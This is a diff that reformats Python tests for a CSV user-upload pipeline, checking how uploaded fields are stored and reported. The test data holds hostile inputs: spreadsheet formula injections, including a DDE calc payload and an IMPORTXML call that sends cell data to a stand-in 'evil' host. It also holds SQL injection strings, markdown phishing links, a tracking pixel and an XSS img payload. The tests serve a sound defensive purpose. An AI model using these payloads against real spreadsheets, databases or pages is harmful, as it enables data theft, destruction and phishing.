@@ -57,9 +57,14 @@ CORPUS: dict[str, Case] = {
         accepted={"u@x.com": {"first_name": "Ünal"}},
     ),
     "quoted_newlines_and_quotes": Case(
-        utf8('email,first_name,last_name\r\na@x.com,"Line1\r\nLine2","O""Brien, Jr"\r\n'
-             'b@x.com,B,\r\nnot-an-email,"multi\nline",x\r\n'),
-        accepted={"a@x.com": {"first_name": "Line1\r\nLine2", "last_name": 'O"Brien, Jr'}, "b@x.com": {"first_name": "B"}},
+        utf8(
+            'email,first_name,last_name\r\na@x.com,"Line1\r\nLine2","O""Brien, Jr"\r\n'
+            'b@x.com,B,\r\nnot-an-email,"multi\nline",x\r\n'
+        ),
+        accepted={
+            "a@x.com": {"first_name": "Line1\r\nLine2", "last_name": 'O"Brien, Jr'},
+            "b@x.com": {"first_name": "B"},
+        },
         rejected={4: "email is not a valid address"},  # the spreadsheet row, not the physical line
     ),
     "old_mac_cr_only": Case(
@@ -74,9 +79,10 @@ CORPUS: dict[str, Case] = {
     # "E-Mail" is "email" once case and punctuation are set aside: which of the two is the address?
     "duplicate_headers": Case(b"email,E-Mail,first_name\na@x.com,b@x.com,A\n", file_error="duplicate column names"),
     # Two different names of one field: each row takes the first non-empty in the table's order.
-    "two_birthday_columns": Case(b"dob,Birthday,email\n,03/14,a@x.com\n1990-01-01,03/14,b@x.com\n",
-                                 accepted={"a@x.com": {"birth_month": 3, "birth_day": 14},
-                                           "b@x.com": {"birth_month": 1, "birth_day": 1}}),
+    "two_birthday_columns": Case(
+        b"dob,Birthday,email\n,03/14,a@x.com\n1990-01-01,03/14,b@x.com\n",
+        accepted={"a@x.com": {"birth_month": 3, "birth_day": 14}, "b@x.com": {"birth_month": 1, "birth_day": 1}},
+    ),
     "no_email_column": Case(b"name,phone\nAnn,1\n", file_error="no email column"),
     "a_workbook_not_a_csv": Case(b"PK\x03\x04\x14\x00\x06\x00[Content_Types].xml", file_error="not a CSV file"),
     "empty": Case(b"\xef\xbb\xbf  \r\n", file_error="the file is empty"),
@@ -96,14 +102,20 @@ CORPUS: dict[str, Case] = {
         rejected={3: "email longer than 254 characters", 4: "email longer than 254 characters"},
     ),
     "formula_cells": Case(
-        utf8('email,first_name,last_name,phone,dob\n'
-             'f1@x.com,"=HYPERLINK(""http://evil.example"",""click"")",+1+1,-2+3,@SUM(A1)\n'
-             'f2@x.com,@SUM(A1:A9),-cmd,+12125550100,=1+1\n'
-             '"=HYPERLINK(""http://evil.example"")",x,y,,\n'
-             "=cmd|' /C calc'!A0@x.com,=2+5,\t=tab,,\n"
-             '-x@x.com,"=IMPORTXML(CONCAT(""http://evil/?"",A1),""//a"")",@me,,\n'),
+        utf8(
+            "email,first_name,last_name,phone,dob\n"
+            'f1@x.com,"=HYPERLINK(""http://evil.example"",""click"")",+1+1,-2+3,@SUM(A1)\n'
+            "f2@x.com,@SUM(A1:A9),-cmd,+12125550100,=1+1\n"
+            '"=HYPERLINK(""http://evil.example"")",x,y,,\n'
+            "=cmd|' /C calc'!A0@x.com,=2+5,\t=tab,,\n"
+            '-x@x.com,"=IMPORTXML(CONCAT(""http://evil/?"",A1),""//a"")",@me,,\n'
+        ),
         accepted={
-            "f1@x.com": {"first_name": '=HYPERLINK("http://evil.example","click")', "last_name": "+1+1", "phone_number": None},
+            "f1@x.com": {
+                "first_name": '=HYPERLINK("http://evil.example","click")',
+                "last_name": "+1+1",
+                "phone_number": None,
+            },
             "f2@x.com": {"first_name": "@SUM(A1:A9)", "last_name": "-cmd", "phone_number": "+12125550100"},
             "-x@x.com": {"first_name": '=IMPORTXML(CONCAT("http://evil/?",A1),"//a")', "last_name": "@me"},
         },
@@ -111,11 +123,13 @@ CORPUS: dict[str, Case] = {
         warnings={2: "", 3: "birth_date"},
     ),
     "sql_looking_text": Case(
-        utf8("email,first_name,last_name\n"
-             "o'reilly@x.com,Robert'); DROP TABLE users;--,1' OR '1'='1\n"
-             f'pct@x.com,%s %(email)s :email $1 ?,"{COPY_END_MARKER}"\n'
-             "x@x.com'; DROP TABLE users;--,x,y\n"
-             'slash@x.com,\\N,"\\."\n'),
+        utf8(
+            "email,first_name,last_name\n"
+            "o'reilly@x.com,Robert'); DROP TABLE users;--,1' OR '1'='1\n"
+            f'pct@x.com,%s %(email)s :email $1 ?,"{COPY_END_MARKER}"\n'
+            "x@x.com'; DROP TABLE users;--,x,y\n"
+            'slash@x.com,\\N,"\\."\n'
+        ),
         accepted={
             "o'reilly@x.com": {"first_name": "Robert'); DROP TABLE users;--", "last_name": "1' OR '1'='1"},
             "pct@x.com": {"first_name": "%s %(email)s :email $1 ?", "last_name": COPY_END_MARKER},
@@ -124,11 +138,13 @@ CORPUS: dict[str, Case] = {
         rejected={4: "email is not a valid address"},
     ),
     "rtl_emoji_and_unicode_names": Case(
-        utf8("email,first_name,last_name\n"
-             "maryam@x.com,مريم,כהן\n"
-             "family@x.com,👩‍👩‍👧‍👦,Zoë 🎂\n"
-             "rlo@x.com,\u202egnp.exe,İstanbul ß Σ\n"
-             "ctrl@x.com,Bell\x07,\x1b[31mRed\n"),
+        utf8(
+            "email,first_name,last_name\n"
+            "maryam@x.com,مريم,כהן\n"
+            "family@x.com,👩‍👩‍👧‍👦,Zoë 🎂\n"
+            "rlo@x.com,\u202egnp.exe,İstanbul ß Σ\n"
+            "ctrl@x.com,Bell\x07,\x1b[31mRed\n"
+        ),
         accepted={
             "maryam@x.com": {"first_name": "مريم", "last_name": "כהן"},
             "family@x.com": {"first_name": "👩‍👩‍👧‍👦", "last_name": "Zoë 🎂"},
@@ -156,8 +172,12 @@ def _stored_users(engine) -> dict[str, dict]:
 
 def _issues(engine, key) -> list[tuple]:
     with engine.connect() as conn:
-        return conn.execute(text('SELECT line, "column", value, severity, reason FROM upload_issues '
-                                 "WHERE upload_key = :k ORDER BY line"), {"k": key}).all()
+        return conn.execute(
+            text(
+                'SELECT line, "column", value, severity, reason FROM upload_issues WHERE upload_key = :k ORDER BY line'
+            ),
+            {"k": key},
+        ).all()
 
 
 def _count(engine, table) -> int:
@@ -230,18 +250,25 @@ def test_the_ingestion_assets_store_formulas_verbatim_and_write_a_neutralised_re
     target.write_bytes(CORPUS["formula_cells"].content)
     with instance_for_test() as instance:
         instance.add_dynamic_partitions("uploads", [key])
-        result = materialize([raw_upload, validated_users, users_and_passes], partition_key=key, instance=instance,
-                             resources=build_resources(settings, frozen_now=NOW.isoformat()))
+        result = materialize(
+            [raw_upload, validated_users, users_and_passes],
+            partition_key=key,
+            instance=instance,
+            resources=build_resources(settings, frozen_now=NOW.isoformat()),
+        )
     assert result.success
-    report = Path(next(
-        e.event_specific_data.materialization.metadata["issues_report"].value
-        for e in result.get_asset_materialization_events()
-        if e.event_specific_data.materialization.asset_key.to_user_string() == "validated_users"))
+    report = Path(
+        next(
+            e.event_specific_data.materialization.metadata["issues_report"].value
+            for e in result.get_asset_materialization_events()
+            if e.event_specific_data.materialization.asset_key.to_user_string() == "validated_users"
+        )
+    )
     assert report.is_file() and report.resolve().is_relative_to(settings.reports_dir.resolve())
     with report.open(newline="", encoding="utf-8") as handle:
         cells = [cell for row in csv.reader(handle) for cell in row]
     assert cells and not [c for c in cells if c.startswith(FORMULA_START)]
-    assert "'=hyperlink(\"http://evil.example\")" in cells
+    assert '\'=hyperlink("http://evil.example")' in cells
     users = _stored_users(engine)
     assert users["f1@x.com"]["first_name"] == '=HYPERLINK("http://evil.example","click")'
     assert users["-x@x.com"]["last_name"] == "@me"
@@ -254,8 +281,15 @@ def test_customer_text_in_run_metadata_cannot_inject_markdown_links_or_images():
     from assets.metadata import markdown_table
 
     record(cases_tried=1)
-    frame = pl.DataFrame({"line": [2, 3, 4], "value": [
-        "[verify your account](http://evil.example/login)", "![](http://evil.example/pixel.png)",
-        "<img src=x onerror=alert(1)>"]})
+    frame = pl.DataFrame(
+        {
+            "line": [2, 3, 4],
+            "value": [
+                "[verify your account](http://evil.example/login)",
+                "![](http://evil.example/pixel.png)",
+                "<img src=x onerror=alert(1)>",
+            ],
+        }
+    )
     rendered = markdown_table(frame)
     assert "](http" not in rendered and "<img" not in rendered
